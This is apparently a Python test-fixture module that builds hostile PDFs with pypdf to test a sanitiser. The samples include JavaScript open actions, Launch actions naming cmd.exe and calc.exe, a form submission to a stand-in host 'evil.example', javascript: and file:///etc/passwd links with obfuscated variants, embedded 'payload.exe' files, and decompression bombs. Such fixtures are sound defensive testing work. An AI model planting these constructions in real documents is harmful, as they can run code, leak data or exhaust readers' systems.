"""Hostile PDFs, made here with pypdf for the tests (nothing binary is committed).

Each maker returns the bytes of a small PDF whose pages say "Page 1", "Page 2"…
and which tries one thing a bundle must not carry: JavaScript, actions of every
kind and their /Next chains, forms and XFA, multimedia, embedded and associated
files, links to javascript: and file: targets, decompression bombs, lying page
counts. Whatever a maker hides carries a PAYLOAD marker, so a test can look for
it in the bytes of every output, raw and decoded.
"""

from __future__ import annotations

import io
import zlib

from pypdf import PdfReader, PdfWriter
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    EncodedStreamObject,
    FloatObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

PAYLOAD = b"HOSTILE-PAYLOAD-c0ffee"


def name(text: str) -> NameObject:
    return NameObject(text)


def d(**entries) -> DictionaryObject:
    """A dictionary from keyword arguments: `d(S="/URI")` is << /S /URI >>; a str value
    starting with "/" is a name, any other str is text."""
    result = DictionaryObject()
    for key, value in entries.items():
        if isinstance(value, str):
            value = NameObject(value) if value.startswith("/") else TextStringObject(value)
        elif isinstance(value, int) and not isinstance(value, bool):
            value = NumberObject(value)
        elif isinstance(value, list):
            value = ArrayObject(value)
        result[NameObject(f"/{key}")] = value
    return result


def rect(x: float = 0, y: float = 0, w: float = 100, h: float = 20) -> ArrayObject:
    return ArrayObject([FloatObject(x), FloatObject(y), FloatObject(x + w), FloatObject(y + h)])


def stream(data: bytes, compress: bool = False, **entries) -> DecodedStreamObject:
    """A stream holding `data`, stored as it is (so a marker can be found in the file's
    bytes) unless `compress`."""
    made = EncodedStreamObject() if compress else DecodedStreamObject()
    made._data = zlib.compress(data) if compress else data
    made.update(d(**entries))
    if compress:
        made[name("/Filter")] = name("/FlateDecode")
    return made


def plain(pages: int = 2) -> PdfWriter:
    """A plain PDF whose pages say "Page 1", "Page 2"…, in Helvetica."""
    writer = PdfWriter()
    font = writer._add_object(d(Type="/Font", Subtype="/Type1", BaseFont="/Helvetica"))
    for number in range(1, pages + 1):
        page = writer.add_blank_page(width=595, height=842)
        content = stream(f"BT /F1 24 Tf 72 720 Td (Page {number}) Tj ET".encode())
        page[name("/Contents")] = writer._add_object(content)
        page[name("/Resources")] = d(Font=d(F1=font))
    return writer


def finished(writer: PdfWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def add_annotation(writer: PdfWriter, page: int, annotation: DictionaryObject):
    target = writer.pages[page]
    annotation.update(d(Type="/Annot"))
    annotation.setdefault(name("/Rect"), rect())
    reference = writer._add_object(annotation)
    if "/Annots" not in target:
        target[name("/Annots")] = ArrayObject()
    target["/Annots"].append(reference)
    return reference


def javascript(code: str = "app.alert('x');") -> DictionaryObject:
    return d(S="/JavaScript", JS=code)


def embedded_file(writer: PdfWriter, file_name: str = "payload.exe"):
    """A file specification holding PAYLOAD, stored uncompressed."""
    data = writer._add_object(stream(PAYLOAD + b" " + file_name.encode(), Type="/EmbeddedFile"))
    return writer._add_object(d(Type="/Filespec", F=file_name, UF=file_name, EF=d(F=data)))


def with_javascript() -> bytes:
    """JavaScript run on opening, in the document's names, on a page and in a link."""
    writer = plain()
    writer._root_object[name("/OpenAction")] = writer._add_object(javascript())
    script = writer._add_object(javascript("app.launchURL('https://example.org');"))
    writer._root_object[name("/Names")] = d(JavaScript=d(Names=[TextStringObject("x"), script]))
    writer.pages[0][name("/AA")] = d(O=javascript("1"), C=javascript("2"))
    writer._root_object[name("/AA")] = d(WC=javascript("3"))
    add_annotation(writer, 1, d(Subtype="/Link", A=javascript("4")))
    return finished(writer)


def with_actions() -> bytes:
    """Launch, GoToR, SubmitForm and ImportData actions in links, and a page's /AA."""
    writer = plain()
    add_annotation(writer, 0, d(Subtype="/Link", A=d(S="/Launch", F="cmd.exe")))
    add_annotation(writer, 0, d(Subtype="/Link", A=d(S="/GoToR", F="other.pdf",
                                                     D=[NumberObject(0), name("/Fit")])))
    add_annotation(writer, 1, d(Subtype="/Link", A=d(S="/SubmitForm", F="https://evil.example")))
    add_annotation(writer, 1, d(Subtype="/Link", A=d(S="/ImportData", F="data.fdf")))
    writer.pages[1][name("/AA")] = d(O=d(S="/Launch", F="calc.exe"))
    return finished(writer)


def with_chained_actions() -> bytes:
    """Allowed links (https, a page of the same PDF) and a bookmark whose actions chain,
    through /Next, into GoToR, Launch and JavaScript."""
    writer = plain()
    launch = d(S="/Launch", F="cmd.exe")
    remote = d(S="/GoToR", F="other.pdf", D=[NumberObject(0), name("/Fit")], Next=launch)
    add_annotation(writer, 0, d(Subtype="/Link", A=d(S="/URI", URI="https://example.org/ok",
                                                     Next=remote)))
    page_two = writer.pages[1].indirect_reference
    add_annotation(writer, 0, d(Subtype="/Link", Rect=rect(0, 40),
                                A=d(S="/GoTo", D=[page_two, name("/Fit")],
                                    Next=[javascript(), d(S="/Launch", F="x.exe")])))
    item = writer.add_outline_item(title="Page two", page_number=1)
    item.get_object()[name("/A")] = d(S="/GoTo", D=[page_two, name("/Fit")],
                                      Next=d(S="/Launch", F="y.exe"))
    return finished(writer)


def with_bad_links() -> bytes:
    """Links whose targets are javascript:, file: and a web address disguised with a tab."""
    writer = plain()
    for index, uri in enumerate(["javascript:alert(1)", "file:///etc/passwd",
                                 "java\tscript:alert(2)", " JavaScript:alert(3)",
                                 "https://example.org/kept", "mailto:team@example.org"]):
        add_annotation(writer, 0, d(Subtype="/Link", Rect=rect(0, 30 * index),
                                    A=d(S="/URI", URI=uri)))
    return finished(writer)


def with_files() -> bytes:
    """Embedded files (in the names, an annotation, a portfolio) and associated files
    (/AF on the document, a page and a picture the page draws)."""
    writer = plain()
    writer._root_object[name("/Names")] = d(EmbeddedFiles=d(Names=[
        TextStringObject("payload.exe"), embedded_file(writer)]))
    writer._root_object[name("/AF")] = ArrayObject([embedded_file(writer, "source.xml")])
    writer.pages[0][name("/AF")] = ArrayObject([embedded_file(writer, "page.xml")])
    add_annotation(writer, 1, d(Subtype="/FileAttachment", FS=embedded_file(writer, "note.exe")))
    form = writer._add_object(stream(b"0 0 10 10 re f", Type="/XObject", Subtype="/Form",
                                     BBox=[NumberObject(0), NumberObject(0), NumberObject(10),
                                           NumberObject(10)]))
    form.get_object()[name("/AF")] = ArrayObject([embedded_file(writer, "xobject.xml")])
    form.get_object()[name("/Ref")] = d(F=embedded_file(writer, "ref.pdf"),
                                        Page=NumberObject(0))
    page = writer.pages[0]
    page["/Resources"][name("/XObject")] = d(X1=form)
    page["/Contents"].get_object()._data += b" q /X1 Do Q"
    return finished(writer)


def with_forms() -> bytes:
    """A form: a text field with a calculation script, and XFA."""
    writer = plain()
    field = add_annotation(writer, 0, d(Subtype="/Widget", FT="/Tx", T="name",
                                        AA=d(C=javascript("event.value = 1"))))
    xfa = writer._add_object(stream(b"<xdp:xdp>" + PAYLOAD + b"</xdp:xdp>"))
    writer._root_object[name("/AcroForm")] = d(Fields=[field], XFA=xfa)
    return finished(writer)


def with_rich_media() -> bytes:
    """A RichMedia annotation with a Flash asset, and a Screen annotation with a rendition."""
    writer = plain()
    asset = embedded_file(writer, "movie.swf")
    content = d(Type="/RichMediaContent", Assets=d(Names=[TextStringObject("movie.swf"), asset]))
    add_annotation(writer, 0, d(Subtype="/RichMedia", RichMediaContent=content))
    add_annotation(writer, 1, d(Subtype="/Screen", A=d(S="/Rendition", OP=NumberObject(0))))
    writer._root_object[name("/Names")] = d(Renditions=d(Names=[]))
    return finished(writer)


def with_named_destinations(label: str) -> bytes:
    """Two pages; a named destination "chapter" on page two; a link on page one to it."""
    writer = plain()
    page_two = writer.pages[1].indirect_reference
    writer._root_object[name("/Names")] = d(Dests=d(Names=[
        TextStringObject("chapter"), ArrayObject([page_two, name("/Fit")])]))
    add_annotation(writer, 0, d(Subtype="/Link", Dest=TextStringObject("chapter"),
                                Contents=f"to the chapter of {label}"))
    return finished(writer)


def bomb(decoded_mb: int = 20, pages: int = 1) -> bytes:
    """Pages whose content streams are small but each decode to `decoded_mb` MB."""
    writer = plain(pages)
    for number, page in enumerate(writer.pages, 1):
        data = (f"% {number} ".encode() + b"0" * (decoded_mb * 1_000_000)
                + f"\nBT /F1 24 Tf 72 720 Td (Page {number}) Tj ET".encode())
        page[name("/Contents")] = writer._add_object(stream(data, compress=True))
    return finished(writer)


def picture_bomb() -> bytes:
    """A picture that says it is 100,000 pixels square (30 GB decoded)."""
    writer = plain(1)
    image = writer._add_object(stream(zlib.compress(b"\0" * 1000), Type="/XObject",
                                      Subtype="/Image", Width=100_000, Height=100_000,
                                      ColorSpace="/DeviceRGB", BitsPerComponent=8,
                                      Filter="/FlateDecode"))
    writer.pages[0]["/Resources"][name("/XObject")] = d(Im1=image)
    return finished(writer)


def pages(count: int) -> bytes:
    return finished(plain(count))


def no_pages() -> bytes:
    writer = PdfWriter()
    return finished(writer)


def lying_page_count(count: int = 1_000_000_000) -> bytes:
    """One page, but a page tree that says there are `count`."""
    data = pages(1)
    reader = PdfReader(io.BytesIO(data))
    writer = PdfWriter(clone_from=reader)
    writer._root_object["/Pages"].get_object()[name("/Count")] = NumberObject(count)
    return finished(writer)


def every_kind() -> bytes:
    """One PDF that tries everything above at once."""
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(with_files())))
    for maker in (with_javascript, with_actions, with_chained_actions, with_bad_links,
                  with_forms, with_rich_media):
        writer.append(PdfReader(io.BytesIO(maker())))
    root = writer._root_object
    root[name("/OpenAction")] = writer._add_object(javascript())
    root[name("/AcroForm")] = d(Fields=[], XFA=writer._add_object(stream(PAYLOAD)))
    names = root["/Names"].get_object()
    names[name("/JavaScript")] = d(Names=[TextStringObject("y"),
                                          writer._add_object(javascript())])
    return finished(writer)


def decoded_streams(data: bytes) -> list[bytes]:
    """The decoded bytes of every stream object in a PDF, found by object number."""
    reader = PdfReader(io.BytesIO(data))
    found = []
    for generation in reader.xref.values():
        for number in generation:
            try:
                item = reader.get_object(number)
            except Exception:  # noqa: BLE001 - a free or broken entry
                continue
            if hasattr(item, "get_data"):
                found.append(item.get_data())
    return found


def carries_payload(data: bytes) -> bool:
    """True when the PAYLOAD is anywhere in the PDF: its bytes or any decoded stream."""
    return PAYLOAD in data or any(PAYLOAD in each for each in decoded_streams(data))


def carries_payload_besides_streams(data: bytes) -> bool:
    """True when the PAYLOAD is in the PDF's bytes outside the data of its streams.

    A damaged file can lose where a stream ends, and a reader then takes the bytes that
    follow, up to the next "endstream", as that stream's data: a page's content or a
    drawing, drawn (as nonsense), never run or saved. Fuzzed files are held to this and to
    a clean object graph; the hostile PDFs above to carries_payload.
    """
    reader = PdfReader(io.BytesIO(data))
    for generation in reader.xref.values():
        for number in generation:
            try:
                item = reader.get_object(number)
            except Exception:  # noqa: BLE001 - a free or broken entry
                continue
            if hasattr(item, "_data"):
                data = data.replace(item._data, b"")
    return PAYLOAD in data
